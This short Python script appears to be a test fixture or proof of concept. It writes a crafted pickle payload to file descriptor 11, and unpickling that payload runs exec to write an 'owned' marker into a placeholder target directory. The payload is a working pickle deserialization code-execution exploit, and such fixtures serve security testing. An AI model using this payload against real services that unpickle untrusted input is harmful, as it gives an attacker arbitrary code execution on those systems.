import os

os.write(11, b"c__builtin__\nexec\np0\n(Vopen('@TARGET@/victim.txt','w').write('owned')\np1\ntp2\nRp3\n.")
os._exit(0)
